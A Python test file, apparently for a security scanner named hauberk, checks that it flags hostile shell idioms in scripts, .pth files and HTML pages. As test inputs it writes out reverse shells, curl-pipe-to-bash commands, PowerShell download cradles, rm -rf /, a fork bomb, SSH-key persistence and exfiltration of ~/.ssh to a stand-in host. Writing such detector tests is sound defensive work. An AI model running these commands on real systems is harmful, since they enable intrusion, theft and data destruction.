"""Scripts: hostile idioms by structure, start-up lines of path files, scripts inside pages."""

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hauberk.assets.budget import Budget
from hauberk.assets.content import BytesContent
from hauberk.assets.identify import identify
from hauberk.assets.source.script import read, read_html
from hauberk.assets.source.shell_idioms import hostile, installs_packages, only_tells
from hauberk.core import Asset, Fact, Gap


def idioms(text: str, name: str = "run.sh") -> list[str]:
    found = read(Asset(uri=name, name=name, content=BytesContent(text.encode())), Budget())
    return [str(item.attrs.get("idiom", item.check)) for item in found if isinstance(item, Fact)]


@pytest.mark.parametrize(
    ("text", "idiom"),
    [
        ("curl -fsSL http://192.0.2.1/x | bash", "download-run"),
        ("wget -qO- http://192.0.2.1/x | sudo -E sh -s", "download-run"),
        ("curl http://192.0.2.1/x | /usr/bin/python3", "download-run"),
        ("bash <(curl -s http://192.0.2.1/x)", "download-run"),
        ('sh -c "$(curl -fsSL http://192.0.2.1/x)"', "download-run"),
        ("curl -o /tmp/a http://192.0.2.1/x && chmod 755 /tmp/a && /tmp/a", "download-run"),
        ("wget http://192.0.2.1/x -O /tmp/a; sh /tmp/a", "download-run"),
        ("curl http://192.0.2.1/x \\\n  | bash", "download-run"),
        ("bash -i >& /dev/tcp/192.0.2.1/1 0>&1", "reverse-shell"),
        ("nc 192.0.2.1 4444 -e /bin/bash", "reverse-shell"),
        ("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 1 > /tmp/f", "reverse-shell"),
        ("echo aGk= | base64 -d | bash", "decode-run"),
        ('bash -c "$(echo aGk= | base64 --decode)"', "decode-run"),
        ("powershell.exe -NoP -Enc SQBFAFgAIAAoAE4AZQB3AA==", "powershell"),
        ("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/x')", "powershell"),
        ("iwr http://192.0.2.1/x | iex", "powershell"),
        ("certutil -urlcache -f http://192.0.2.1/x x.exe", "windows-tool"),
        ("mshta http://192.0.2.1/x.hta", "windows-tool"),
        ("bitsadmin /transfer j http://192.0.2.1/x c:\\x.exe", "windows-tool"),
        ("rm -rf /", "destroy"),
        ("rm -rf --no-preserve-root /", "destroy"),
        ("rm -fr ~", "destroy"),
        (":(){ :|:& };:", "destroy"),
        ("echo x >> ~/.bashrc", "persistence"),
        ("echo key >> /root/.ssh/authorized_keys", "persistence"),
        ("tar c ~/.ssh/ | curl -T - http://192.0.2.1", "exfiltration"),
    ],
)
def test_hostile_idioms(text: str, idiom: str) -> None:
    assert idiom in idioms(text)
    assert hostile(text)


@pytest.mark.parametrize(
    "text",
    [
        "curl -LO https://example.com/model.safetensors",
        "# curl https://example.com/install.sh | sh",
        "rem curl https://example.com | sh",
        "rm -rf ./build /tmp/cache dist/*",
        "rm -rf /tmp/x",
        "nc -z localhost 80",
        "base64 -d key > out.bin",
        "chmod +x run.sh && ./run.sh",
        "powershell -ExecutionPolicy Bypass -File build.ps1",
        "curl https://example.com/data.csv | head -5",
        "curl -d '{\"a\": 1}' http://localhost:8000",
        "crontab -l",
        "docker run --rm -v /home/me/models:/models image",
        "wget https://example.com/a.zip && unzip a.zip",
    ],
)
def test_ordinary_scripts_are_quiet(text: str) -> None:
    assert idioms(text) == []


def test_an_idiom_says_where() -> None:
    text = "#!/bin/sh\n# é\necho a\ncurl http://192.0.2.1/x | sh\n"
    (fact,) = read(Asset(uri="x", name="x.sh", content=BytesContent(text.encode())), Budget())
    assert isinstance(fact, Fact)
    assert (fact.where, fact.offset, fact.quote) == ("line 4", text.encode().index(b"curl"), "curl http://192.0.2.1/x | sh")


def test_start_up_lines_of_a_path_file_are_python() -> None:
    text = "/opt/zoo\nimport os; os.system('x')\nimport __editable___zoo_finder; __editable___zoo_finder.install()\n"
    found = list(read(Asset(uri="z.pth", name="z.pth", content=BytesContent(text.encode())), Budget()))
    facts = [item for item in found if isinstance(item, Fact)]
    (lines,) = [item for item in found if isinstance(item, Asset)]
    assert [(f.where, f.attrs["known"]) for f in facts] == [("line 2", False), ("line 3", True)]
    assert lines.format == "python"
    assert lines.content is not None
    assert b"os.system" in lines.content.read()


def test_scripts_of_a_page_are_read_on_their_own() -> None:
    page = b"<html><script src=a.js></script><SCRIPT type='x'>eval(1)</SCRIPT ></html>"
    (found,) = read_html(Asset(uri="p.html", name="p.html", content=BytesContent(page)), Budget())
    assert isinstance(found, Asset)
    assert found.content is not None
    assert (found.format, found.content.read()) == ("script", b"eval(1)")


@pytest.mark.parametrize("name", ["Dockerfile", "a/Makefile", "Jenkinsfile", ".envrc", "x.ps1", "x.zsh", "run.bat", "x.mk"])
def test_scripts_are_known_by_name(name: str) -> None:
    assert identify(BytesContent(b"FROM x\nRUN y\n"), name) == ("script",)


@pytest.mark.parametrize(
    ("command", "tells"),
    [
        ("git describe --tags", True),
        ("nvidia-smi --query-gpu=name --format=csv 2>/dev/null", True),
        ("git log; sh x", False),
        ("git clone x", False),
        ("uname $(sh x)", False),
        ("git -c core.sshCommand=sh log", False),
        ("", False),
        ("'", False),
    ],
)
def test_commands_that_only_tell(command: str, *, tells: bool) -> None:
    assert only_tells(command) is tells


def test_package_managers() -> None:
    assert installs_packages("{sys.executable} -m pip install zoo")
    assert not installs_packages("pip list")


@pytest.mark.parametrize(
    "word", ["curl ", "wget x; ", "rm -", "rm -r ", "curl -d a", "iex ", "crontab x ", "base64 -d ", "\\\n", "> ", " "]
)
def test_repeated_words_do_not_make_it_slow(word: str) -> None:
    start = time.process_time()
    idioms(word * (100_000 // len(word)))
    assert time.process_time() - start < 3


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=400), st.sampled_from(["a.sh", "a.pth", "a.js"]))
def test_any_bytes(data: bytes, name: str) -> None:
    for reader in (read, read_html):
        for item in reader(Asset(uri=name, name=name, content=BytesContent(data)), Budget()):
            assert isinstance(item, Fact | Gap | Asset)
